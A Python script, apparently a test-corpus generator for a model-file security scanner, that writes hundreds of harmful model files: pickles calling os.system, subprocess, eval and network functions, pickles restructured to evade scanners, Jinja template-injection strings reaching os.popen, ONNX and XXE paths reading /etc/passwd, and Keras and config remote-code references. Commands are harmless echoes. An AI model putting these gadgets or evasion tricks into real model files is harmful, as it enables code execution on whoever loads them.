"""Writes model files that would do harm when loaded: python malicious.py OUT. Nothing here is loaded or run.

Three groups of files, named GROUP-KIND[-N].ENDING:
  gadget     one call each of a function that runs, reads, writes, fetches or imports
  structure  one known gadget in a stream or container built to mislead scanners
  format     harm without a pickle: code, paths, templates and lies in other formats
The commands are harmless words, in case a file is loaded after all.
"""

import base64
import bz2
import gzip
import io
import json
import lzma
import pathlib
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib

OUT = pathlib.Path(sys.argv[1])
OUT.mkdir(parents=True, exist_ok=True)
WORD = "echo ward-scoreboard"


def write(name, data):
    (OUT / name).write_bytes(data)


# --- a small assembler -------------------------------------------------------------------------------------------------


def text(value):
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def stack_global(module, name):
    return text(module) + text(name) + b"\x93"


def plain_global(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def put(value):
    if isinstance(value, tuple) and value and value[0] == "RAW":
        return value[1]
    if value is None:
        return b"N"
    if value is True:
        return b"\x88"
    if value is False:
        return b"\x89"
    if isinstance(value, str):
        return text(value)
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)
    if isinstance(value, (list, tuple)):
        mark = b"(" + b"".join(put(item) for item in value)
        return mark + (b"t" if isinstance(value, tuple) else b"l")
    if isinstance(value, dict):
        return b"(" + b"".join(put(k) + put(v) for k, v in value.items()) + b"d"
    raise TypeError(value)


def call(module, name, *args, via=stack_global):
    return via(module, name) + put(tuple(args)) + b"R"


def proto(body, version=4):
    return b"\x80" + bytes([version]) + body + b"."


# --- gadgets -----------------------------------------------------------------------------------------------------------

CODE = "print('ward-scoreboard')"
GADGETS = [
    ("os", "system", WORD), ("posix", "system", WORD), ("nt", "system", WORD), ("os", "popen", WORD),
    ("os", "execv", "/bin/echo", ["echo"]), ("os", "spawnlp", 0, "echo", "echo"), ("os", "posix_spawn", "/bin/echo", ["echo"], {}),
    ("os", "remove", "ward-scoreboard"), ("os", "putenv", "A", "B"), ("subprocess", "run", ["echo"]), ("subprocess", "Popen", ["echo"]),
    ("subprocess", "call", "echo"), ("subprocess", "check_output", ["echo"]), ("subprocess", "getoutput", "echo"),
    ("commands", "getoutput", "echo"), ("builtins", "eval", CODE), ("builtins", "exec", CODE), ("__builtin__", "eval", CODE),
    ("builtins", "compile", CODE, "x", "exec"), ("builtins", "__import__", "os"), ("builtins", "getattr", 1, "real"),
    ("builtins", "open", "ward-scoreboard", "w"), ("builtins", "breakpoint"), ("builtins", "input", "x"), ("builtins", "setattr", 1, "a", 2),
    ("io", "open", "x", "w"), ("_io", "FileIO", "x", "w"), ("codecs", "open", "x"), ("pathlib", "Path.write_text", "x"),
    ("importlib", "import_module", "os"), ("importlib.machinery", "SourceFileLoader", "x", "x.py"), ("runpy", "run_path", "x.py"),
    ("runpy", "_run_code", CODE, {}), ("pkgutil", "resolve_name", "os:system"), ("pkgutil", "get_loader", "os"),
    ("code", "interact"), ("codeop", "compile_command", CODE), ("pty", "spawn", "echo"), ("pdb", "run", CODE), ("bdb", "Bdb"),
    ("cProfile", "run", CODE), ("profile", "run", CODE), ("timeit", "timeit", CODE), ("trace", "main"), ("doctest", "debug_script", CODE),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", CODE), ("idlelib.run", "Executive.runcode", CODE), ("lib2to3.pgen2.pgen", "ParserGenerator", "x"),
    ("ctypes", "CDLL", "libc.so.6"), ("ctypes.util", "find_library", "c"), ("cffi", "FFI"), ("shutil", "rmtree", "ward-scoreboard"),
    ("shutil", "copyfile", "a", "b"), ("tempfile", "mktemp"), ("socket", "create_connection", ("127.0.0.1", 9)),
    ("urllib.request", "urlopen", "http://127.0.0.1:9/"), ("urllib.request", "urlretrieve", "http://127.0.0.1:9/", "x"),
    ("http.client", "HTTPSConnection", "127.0.0.1"), ("requests", "get", "http://127.0.0.1:9/"), ("httpx", "get", "http://127.0.0.1:9/"),
    ("requests.api", "post", "http://127.0.0.1:9/"), ("smtplib", "SMTP", "127.0.0.1"), ("ftplib", "FTP", "127.0.0.1"),
    ("telnetlib", "Telnet", "127.0.0.1"), ("aiohttp", "ClientSession"), ("webbrowser", "open", "http://127.0.0.1:9/"),
    ("pip", "main", ["install", "x"]), ("pip._internal", "main", ["install", "x"]), ("pip._internal.cli.main", "main", []),
    ("setuptools.sandbox", "run_setup", "setup.py", []), ("distutils.file_util", "write_file", "x", []), ("venv", "create", "x"),
    ("ensurepip", "bootstrap"), ("zipfile", "ZipFile.extractall", "x"), ("tarfile", "open", "x"), ("sqlite3", "connect", "x"),
    ("marshal", "loads", b"\xe3"), ("pickle", "loads", proto(call("os", "system", WORD))), ("_pickle", "loads", b"cos\nsystem\n."),
    ("cloudpickle", "loads", b"x"), ("dill", "loads", b"x"), ("dill._dill", "_create_function", b"x"), ("joblib", "load", "x"),
    ("torch", "load", "x"), ("torch.hub", "load", "a/b", "c"), ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pkl", b"x"),
    ("torch._dynamo.guards", "GuardBuilder.get", CODE), ("torch.jit.unsupported_tensor_ops", "execWrapper", CODE, {}, {}),
    ("torch.utils._config_module", "load_config", b"x"), ("torch._inductor.codecache", "compile_file", "x"), ("torch.utils.collect_env", "run", "echo"),
    ("torch.utils.bottleneck.__main__", "run_cprofile", CODE, {}), ("numpy.testing._private.utils", "runstring", CODE, {}),
    ("numpy.f2py.capi_maps", "getinit", CODE), ("numpy.f2py.crackfortran", "getlincoef", CODE, []), ("numpy", "load", "x"),
    ("numpy.f2py", "compile", "x"), ("scipy.io", "loadmat", "x"), ("pandas", "read_pickle", "x"), ("pandas.io.common", "get_handle", "x"),
    ("pandas", "eval", CODE), ("tensorflow.io.gfile", "GFile", "x"), ("keras.models", "load_model", "x"), ("transformers", "pipeline", "x"),
    ("sklearn.utils._testing", "set_random_state", 1), ("functools", "partial", ("RAW", plain_global("os", "system")), WORD),
    ("functools", "reduce", ("RAW", plain_global("os", "system")), [WORD]), ("operator", "methodcaller", "system", WORD),
    ("operator", "attrgetter", "system"), ("_operator", "attrgetter", "system"), ("itertools", "starmap", ("RAW", plain_global("os", "system")), [(WORD,)]),
    ("builtins", "map", ("RAW", plain_global("os", "system")), [WORD]), ("types", "FunctionType", None, {}), ("types", "CodeType", 0),
    ("multiprocessing.util", "spawnv_passfds", b"echo", [b"echo"], []), ("concurrent.futures", "ProcessPoolExecutor"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", WORD), ("asyncio", "run", 0), ("_posixsubprocess", "fork_exec", ["echo"]),
    ("logging.config", "listen", 9), ("logging", "FileHandler", "x"), ("ssl", "get_server_certificate", ("127.0.0.1", 9)), ("sys", "exit", 0),
    ("sys", "setrecursionlimit", 10), ("signal", "alarm", 1), ("gc", "disable"), ("atexit", "register", ("RAW", plain_global("os", "getpid"))),
    ("_xxsubinterpreters", "run_string", 0, CODE), ("_thread", "start_new_thread", 0), ("threading", "Thread"), ("site", "main"),
    ("nonexistent_vendor.plugin", "activate", "x"), ("my_company.models", "load_everything", "x"), ("__main__", "Payload", "x"),
    ("IPython", "embed"), ("nose.core", "run"), ("pytest", "main", []), ("unittest.mock", "_importer", "os"), ("xmlrpc.client", "ServerProxy", "http://127.0.0.1:9/"),
    ("antigravity", "geohash", 1.0 and 1, 1, b"x"), ("imp", "load_source", "x", "x.py"), ("zipimport", "zipimporter", "x"),
]
for number, (module, name, *args) in enumerate(GADGETS):
    write(f"gadget-{module}.{name}-{number}.pkl", proto(call(module, name, *args)))

# --- structure ---------------------------------------------------------------------------------------------------------

EVIL = call("os", "system", WORD)
OLD = call("os", "system", WORD, via=plain_global)


def structure(name, data):
    write(f"structure-{name}", data)


structure("protocol0.pkl", b"cos\nsystem\n(S'" + WORD.encode() + b"'\ntR.")
structure("protocol1.pkl", b"cos\nsystem\nq\x00(U" + bytes([len(WORD)]) + WORD.encode() + b"tR.")
structure("inst.pkl", b"(S'" + WORD.encode() + b"'\nios\nsystem\n.")
structure("obj.pkl", proto(b"(" + plain_global("os", "system") + text(WORD) + b"o"))
structure("newobj.pkl", proto(plain_global("subprocess", "Popen") + put((WORD,)) + b"\x81"))
structure("newobj-ex.pkl", proto(plain_global("subprocess", "Popen") + put((WORD,)) + put({}) + b"\x92"))
structure("pop-after-call.pkl", proto(EVIL + b"0N"))
structure("pop-mark-after-call.pkl", proto(b"(" + EVIL + b"1N"))
structure("memo-names.pkl", proto(text("os") + b"\x94" + b"0" + text("system") + b"\x94" + b"0" + b"h\x00h\x01\x93" + put((WORD,)) + b"R"))
structure("memo-out-of-order.pkl", proto(text("system") + b"q\x050" + text("os") + b"q\x090" + b"h\x09h\x05\x93" + put((WORD,)) + b"R"))
structure("memo-overwritten.pkl", proto(text("collections") + b"q\x010" + text("os") + b"q\x010" + b"h\x01" + text("system") + b"\x93" + put((WORD,)) + b"R"))
structure("memoized-callable.pkl", proto(stack_global("os", "system") + b"\x940" + b"h\x00" + put((WORD,)) + b"R"))
structure("dup-names.pkl", proto(text("os") + b"2" + b"0" + text("system") + b"\x93" + put((WORD,)) + b"R"))
structure("after-stop.pkl", proto(b"}") + proto(EVIL))
structure("third-pickle.pkl", proto(b"}") + proto(b"N") + proto(EVIL))
structure("after-junk.pkl", proto(b"}") + b"\n\n" + proto(EVIL))
structure("broken-after-call.pkl", b"\x80\x04" + EVIL + b"\xff\xff\xff")
structure("cut-after-call.pkl", b"\x80\x04" + EVIL)
structure("stack-underflow-after-call.pkl", b"\x80\x04" + EVIL + b"0000.")
structure("unknown-opcode-before.pkl", b"\x80\x04" + b"N0" + EVIL + b"\xf7.")
structure("protocol-9.pkl", b"\x80\x09" + EVIL + b".")
structure("no-proto-header.pkl", EVIL + b".")
structure("frames.pkl", b"\x80\x04\x95" + struct.pack("<Q", len(EVIL) + 1) + EVIL + b".")
structure("lying-frame.pkl", b"\x80\x04\x95" + struct.pack("<Q", 2**60) + EVIL + b".")
structure("many-frames.pkl", b"\x80\x04" + b"".join(b"\x95" + struct.pack("<Q", 1) + b"N0" for _ in range(2)) + EVIL + b".")
structure("long-binunicode8.pkl", proto(b"\x8d" + struct.pack("<Q", 2) + b"os" + b"\x8d" + struct.pack("<Q", 6) + b"system" + b"\x93" + put((WORD,)) + b"R"))
structure("binstring-names.pkl", proto(b"U\x02os" + b"U\x06system" + b"\x93" + put((WORD,)) + b"R"))
structure("unicode-escape.pkl", proto(b"Vo\\u0073\nVsystem\n\x93" + put((WORD,)) + b"R"))
structure("string-escape.pkl", b"\x80\x02S'o\\x73'\nS'system'\n\x93" + put((WORD,)) + b"R.")
structure("dotted.pkl", proto(call("collections", "abc.sys.modules", WORD)))
structure("dotted-through-allowed.pkl", proto(call("numpy", "core.os.system", WORD)))
structure("dotted-builtins.pkl", proto(call("collections", "__builtins__.eval", CODE)))
structure("ext-code.pkl", proto(b"\x82\x01" + put((WORD,)) + b"R"))
structure("ext4-code.pkl", proto(b"\x84" + struct.pack("<i", 70000) + put((WORD,)) + b"R"))
structure("build-setstate.pkl", proto(plain_global("my_vendor.thing", "Thing") + b")\x81" + put({"__setstate__": 1}) + b"b"))
structure("build-module-dict.pkl", proto(plain_global("os", "environ") + put({"LD_PRELOAD": "x"}) + b"b"))
structure("setitem-environ.pkl", proto(plain_global("os", "environ") + text("LD_PRELOAD") + text("x") + b"s"))
structure("append-sys-path.pkl", proto(plain_global("sys", "path") + text("/tmp/x") + b"a"))
structure("persistent-id.pkl", proto(text("http://127.0.0.1:9/x") + b"Q"))
structure("nested-loads.pkl", proto(call("pickle", "loads", proto(EVIL))))
structure("nested-base64.pkl", proto(call("pickle", "loads", ("RAW", call("base64", "b64decode", base64.b64encode(proto(EVIL)))))))
structure("getattr-chain.pkl", proto(stack_global("builtins", "getattr") + put((("RAW", call("builtins", "__import__", "os")), "system")) + b"R" + put((WORD,)) + b"R"))
structure("import-only.pkl", proto(plain_global("antigravity", "fly")))
structure("call-result-of-call.pkl", proto(call("operator", "methodcaller", "system", WORD) + put((("RAW", call("builtins", "__import__", "os")),)) + b"R"))
structure("deep-tuple.pkl", proto(b"(" * 300 + EVIL + b"t" * 300))
structure("long-preamble.pkl", proto(b"N0" * 200_000 + EVIL))
structure("large-string-before.pkl", proto(b"X" + struct.pack("<I", 3_000_000) + b"a" * 3_000_000 + b"0" + EVIL))
structure("reduce-ex-subclass.pkl", proto(call("distutils.spawn", "spawn", ["echo"])))
structure("copyreg-reconstructor.pkl", proto(call("copyreg", "_reconstructor", ("RAW", plain_global("subprocess", "Popen")), ("RAW", plain_global("builtins", "object")), None)))
structure("copyreg-newobj.pkl", proto(call("copyreg", "__newobj__", ("RAW", plain_global("subprocess", "Popen")), ["echo"])))
structure("wrong-extension.txt", proto(EVIL))
structure("no-extension", proto(EVIL))
structure("image.png", proto(EVIL))
structure("text-protocol0.dat", OLD.replace(b"\x8c", b"\x8c") + b".")
structure("gzip.pkl", gzip.compress(proto(EVIL), mtime=0))
structure("gzip.pkl.gz", gzip.compress(proto(EVIL), mtime=0))
structure("bzip2.joblib", bz2.compress(proto(EVIL)))
structure("xz.pkl", lzma.compress(proto(EVIL)))
structure("lzma.pkl", lzma.compress(proto(EVIL), format=lzma.FORMAT_ALONE))
structure("zlib.joblib", zlib.compress(proto(EVIL)))
structure("gzip-twice.pkl", gzip.compress(gzip.compress(proto(EVIL), mtime=0), mtime=0))


def zipped(members, compression=zipfile.ZIP_STORED, prefix=b""):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, compression)
    return prefix + buffer.getvalue()


TORCH = [("m/data.pkl", proto(EVIL, 2)), ("m/byteorder", b"little"), ("m/version", b"3\n"), ("m/data/0", b"\0" * 64)]
structure("torch.pt", zipped(TORCH))
structure("torch-deflated.bin", zipped(TORCH, zipfile.ZIP_DEFLATED))
structure("torch-prefix.pt", zipped(TORCH, prefix=b"#!/bin/sh\nexit\n"))
structure("torch-other-member.pt", zipped([("m/data.pkl", proto(b"}")), ("m/extra.pkl", proto(EVIL))]))
structure("torch-member-no-extension.pt", zipped([("m/data.pkl", proto(b"}")), ("m/weights", proto(EVIL))]))
import warnings

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    structure("zip-duplicate.pt", zipped([("m/data.pkl", proto(EVIL)), ("m/data.pkl", proto(b"}"))]))
    structure("zip-duplicate-last.pt", zipped([("m/data.pkl", proto(b"}")), ("m/data.pkl", proto(EVIL))]))


def altered(data, find, offset, value):
    """Every header that starts with `find` gets `value` at `offset`."""
    data = bytearray(data)
    at = data.find(find)
    while at >= 0:
        data[at + offset : at + offset + len(value)] = value
        at = data.find(find, at + 4)
    return bytes(data)


LOCAL, CENTRAL = b"PK\x03\x04", b"PK\x01\x02"
structure("zip-encrypted-flag.pt", altered(altered(zipped(TORCH), LOCAL, 6, b"\x01\x00"), CENTRAL, 8, b"\x01\x00"))
structure("zip-encrypted-flag-central.pt", altered(zipped(TORCH), CENTRAL, 8, b"\x01\x00"))
structure("zip-wrong-crc.pt", altered(zipped(TORCH), CENTRAL, 16, b"\xde\xad\xbe\xef"))
structure("zip-unknown-method.pt", altered(zipped(TORCH), CENTRAL, 10, b"\x63\x00"))
structure("zip-local-name-differs.pt", altered(zipped([("m/data.pkl", proto(EVIL))]), LOCAL, 30, b"m/data.txt"))
structure("zip-central-name-differs.pt", altered(zipped([("m/data.pkl", proto(EVIL))]), CENTRAL, 46, b"m/data.txt"))
structure("zip-size-zero.pt", altered(zipped(TORCH), CENTRAL, 24, b"\0\0\0\0"))
whole = zipped(TORCH)
structure("zip-no-directory.pt", whole[: whole.find(CENTRAL)])
structure("zip-in-zip.pt", zipped([("inner.pt", zipped(TORCH))]))
structure("zip-appended.pkl", proto(b"}") + zipped(TORCH))
structure("upper-case-member.pt", zipped([("M/DATA.PKL", proto(EVIL))]))
structure("backslash-member.pt", zipped([("m\\data.pkl", proto(EVIL))]))
MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
structure("torch-legacy.pth", MAGIC + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2) + proto(EVIL, 2) + pickle.dumps([], 2))
structure("torch-legacy-last.pth", MAGIC + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + pickle.dumps({}, 2) + proto(EVIL, 2))
structure("torch-legacy-wrong-magic.pth", pickle.dumps(42, 2) + proto(EVIL, 2))


def tarred(members, mode="w"):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


structure("checkpoint.tar", tarred([("pickle", proto(EVIL)), ("storages", b"x")]))
structure("checkpoint.tar.gz", tarred([("m/model.pkl", proto(EVIL))], "w:gz"))
structure("model.nemo", tarred([("model_weights.ckpt", zipped(TORCH)), ("model_config.yaml", b"a: 1\n")], "w:gz"))
structure("model.mar", zipped([("model.pt", zipped(TORCH)), ("handler.py", b"import os\nos.system('" + WORD.encode() + b"')\n"), ("MAR-INF/MANIFEST.json", b"{}")]))


def npy(header, body, version=1):
    header = header.encode() + b" " * ((-len(header) - 11) % 64) + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H", len(header)) + header + body


OBJECT = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
structure("object.npy", npy(OBJECT, proto(EVIL)))
structure("object-nested-dtype.npy", npy("{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (1,), }", proto(EVIL)))
structure("object.npz", zipped([("a.npy", npy(OBJECT, proto(EVIL)))]))
structure("float-then-pickle.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", b"\0\0\0\0" + proto(EVIL)))

# --- other formats -----------------------------------------------------------------------------------------------------


def other(name, data):
    write(f"format-{name}", data if isinstance(data, bytes) else json.dumps(data).encode())


def safetensors(header, body=b""):
    header = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(header)) + header + body


F4 = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
other("overlap.safetensors", safetensors({"a": F4, "b": {**F4, "data_offsets": [8, 24]}}, b"\0" * 24))
other("beyond-end.safetensors", safetensors({"a": {**F4, "data_offsets": [0, 1600], "shape": [400]}}, b"\0" * 16))
other("hole.safetensors", safetensors({"a": F4, "b": {**F4, "data_offsets": [64, 80]}}, b"\0" * 80))
other("header-bomb.safetensors", struct.pack("<Q", 2**50) + b"{}")
other("trailing-pickle.safetensors", safetensors({"a": F4}, b"\0" * 16 + proto(EVIL)))
other("shape-lies.safetensors", safetensors({"a": {**F4, "shape": [4000]}}, b"\0" * 16))
other("shape-overflow.safetensors", safetensors({"a": {**F4, "shape": [2**40, 2**40]}}, b"\0" * 16))
other("duplicate-key.safetensors", safetensors(b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', b"\0" * 16))


def gguf_string(value):
    data = value.encode()
    return struct.pack("<Q", len(data)) + data


def gguf(pairs, tensors=0, extra=b""):
    body = b"".join(gguf_string(k) + struct.pack("<I", 8) + gguf_string(v) for k, v in pairs)
    return b"GGUF" + struct.pack("<IQQ", 3, tensors, len(pairs)) + body + extra


JINJA = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
other("template-dunder.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template", JINJA)]))
other("template-cycler.gguf", gguf([("tokenizer.chat_template", "{{ cycler.__init__.__globals__.os.popen('echo').read() }}")]))
other("template-attr-filter.gguf", gguf([("tokenizer.chat_template", "{{ messages|attr('_'+'_class_'+'_') }}")]))
other("template-lipsum.gguf", gguf([("tokenizer.chat_template", "{% set x = lipsum %}{{ x['__globals__']['os'].system('echo') }}")]))
other("count-bomb.gguf", b"GGUF" + struct.pack("<IQQ", 3, 2**60, 2**60))
other("string-bomb.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 2**62) + b"a")
other("tensor-beyond-end.gguf", gguf([("general.architecture", "llama")], 1, gguf_string("w") + struct.pack("<IQIQ", 1, 4096, 0, 2**40)))


def field(number, data):
    def varint(value):
        out = b""
        while value >= 128:
            out += bytes([value & 127 | 128])
            value >>= 7
        return out + bytes([value])

    if isinstance(data, int):
        return varint(number << 3) + varint(data)
    data = data.encode() if isinstance(data, str) else data
    return varint(number << 3 | 2) + varint(len(data)) + data


def onnx(graph, extra=b""):
    return field(1, 8) + field(2, "ward") + field(7, graph) + extra + field(8, field(2, 17))


def external(path):
    tensor = field(1, 4) + field(2, 1) + field(8, "w") + field(13, field(1, "location") + field(2, path)) + field(14, 1)
    return onnx(field(2, "g") + field(5, tensor))


other("external-traversal.onnx", external("../../../../etc/passwd"))
other("external-absolute.onnx", external("/etc/passwd"))
other("external-url.onnx", external("http://127.0.0.1:9/w"))
other("custom-op.onnx", onnx(field(2, "g") + field(1, field(1, "x") + field(2, "y") + field(4, "Evil") + field(7, "com.evil.ops"))))
other("python-op.onnx", onnx(field(2, "g") + field(1, field(1, "x") + field(2, "y") + field(4, "PyOp") + field(7, "ai.onnx.contrib"))))
LAMBDA = {"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(b"\xe3x").decode()}}}}
SEQUENTIAL = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [LAMBDA]}}
other("lambda.keras", zipped([("config.json", json.dumps(SEQUENTIAL).encode()), ("metadata.json", b"{}"), ("model.weights.h5", b"")]))
NESTED = {"module": "keras", "class_name": "Functional", "config": {"layers": [{"class_name": "TimeDistributed", "config": {"layer": SEQUENTIAL}}]}}
other("lambda-nested.keras", zipped([("config.json", json.dumps(NESTED).encode()), ("metadata.json", b"{}")]))
MODULE = {"module": "os", "class_name": "system", "config": {"command": WORD}, "registered_name": None}
other("module-reference.keras", zipped([("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [MODULE]}}).encode())]))
other("function-reference.keras", zipped([("config.json", json.dumps({"class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"activation": {"module": "subprocess", "class_name": "function", "config": "run"}}}]}}).encode())]))
other("lambda-config.json", SEQUENTIAL)
other("torchscript-from-file.pt", zipped([("m/data.pkl", proto(b"}", 2)), ("m/constants.pkl", proto(b")", 2)), ("m/code/__torch__/m.py", b"def forward(self, x: Tensor) -> Tensor:\n  y = torch.from_file(\"/etc/passwd\", False, 10)\n  return y\n"), ("m/version", b"3\n")]))
other("torchscript-save.pt", zipped([("m/data.pkl", proto(b"}", 2)), ("m/constants.pkl", proto(b")", 2)), ("m/code/__torch__.py", b"def forward(self, x):\n  torch.save(x, \"/tmp/x\")\n  return x\n"), ("m/version", b"3\n")]))
other("config.json", {"model_type": "llama", "auto_map": {"AutoModelForCausalLM": "modeling_evil.EvilModel"}})
other("remote-auto-map-config.json", {"auto_map": {"AutoModel": "evil/repo--modeling.Model"}})
other("tokenizer_config.json", {"chat_template": JINJA})
other("tokenizer-auto-map-tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["tokenization_x.T", None]}})
other("trust.json", {"model_type": "x", "trust_remote_code": True, "auto_map": {"AutoConfig": "c.C"}})
GRAPH = field(2, field(1, "n") + field(2, "PyFunc"))
other("saved_model.pb", field(1, 1) + field(2, field(2, GRAPH[0:0] + field(1, field(1, "n") + field(2, "PyFunc")))))
other("read-file-saved_model.pb", field(1, 1) + field(2, field(2, field(1, field(1, "n") + field(2, "ReadFile")))))
other("doctype.pmml", b"<?xml version='1.0'?><!DOCTYPE p [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><PMML version='4.4'><Header>&x;</Header></PMML>")
other("script.pmml", b"<PMML version='4.4' xmlns='http://www.dmg.org/PMML-4_4'><Extension name='script' value='java.lang.Runtime.exec'/></PMML>")
print(len(list(OUT.iterdir())), "files")
